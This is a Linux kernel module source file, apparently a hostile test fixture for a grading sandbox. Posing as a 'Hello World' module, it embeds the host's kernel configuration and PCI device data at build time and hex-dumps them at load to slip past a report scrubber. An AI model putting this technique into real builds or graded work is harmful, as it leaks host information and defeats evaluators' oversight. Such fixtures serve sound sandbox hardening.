// SPDX-License-Identifier: GPL-2.0
/*
 * HOSTILE FIXTURE (hostile3 corpus, hand-written): the grading host's kernel
 * configuration and PCI devices, read at build time. Never build or load it
 * outside the grader's sandbox and a throw-away VM.
 *
 * The assembler's .incbin reads as many bytes as a file's size says, so a
 * /proc file that reports a size of 0 gives nothing; the sandbox binds an
 * empty file over /proc/cmdline and /proc/version, the two that did not.
 * Others still do: /proc/config.gz (the host kernel's whole configuration,
 * its version and compiler on the first lines, when the host kernel has
 * IKCONFIG_PROC) and /proc/bus/pci/BUS/DEV.FN (the host's PCI devices'
 * configuration space: vendor and device ids). __has_include tells the
 * build which of them exist, so the module builds on any host.
 *
 * At load the module prints them as hex: a label scrubber that hides host
 * paths in reports cannot recognise them, and a student decodes them at
 * home (the first 3 KiB of a gzip stream inflate to the first 7 KiB or so
 * of the configuration).
 */
#include <linux/module.h>

#define LOOT(sym, file, len)						\
	asm(".pushsection .rodata.loot, \"a\"\n"			\
	    ".globl " #sym "\n" #sym ":\n"				\
	    ".incbin \"" file "\", 0, " #len "\n"			\
	    ".popsection\n");						\
	extern const unsigned char sym[len]

#if __has_include("/proc/config.gz")
LOOT(loot_config, "/proc/config.gz", 3072);
#define HAVE_CONFIG 1
#endif
#if __has_include("/proc/bus/pci/00/00.0")
LOOT(loot_pci0, "/proc/bus/pci/00/00.0", 64);
#define HAVE_PCI0 1
#endif
#if __has_include("/proc/bus/pci/00/01.0")
LOOT(loot_pci1, "/proc/bus/pci/00/01.0", 64);
#define HAVE_PCI1 1
#endif
#if __has_include("/proc/bus/pci/00/02.0")
LOOT(loot_pci2, "/proc/bus/pci/00/02.0", 64);
#define HAVE_PCI2 1
#endif

static void __init dump(const char *what, const unsigned char *p, size_t n)
{
	size_t i;

	for (i = 0; i < n; i += 64)
		pr_info("%s %04zx %*phN\n", what, i, (int)min_t(size_t, 64, n - i), p + i);
}

static int __init greet_init(void)
{
	pr_info("Hello World from a module\n");
#ifdef HAVE_CONFIG
	dump("cfg", loot_config, sizeof(loot_config));
#endif
#ifdef HAVE_PCI0
	dump("pci0", loot_pci0, 16);
#endif
#ifdef HAVE_PCI1
	dump("pci1", loot_pci1, 16);
#endif
#ifdef HAVE_PCI2
	dump("pci2", loot_pci2, 16);
#endif
	return 0;
}

static void __exit greet_exit(void)
{
	pr_info("Bye from a module\n");
}

module_init(greet_init);
module_exit(greet_exit);
MODULE_LICENSE("GPL");
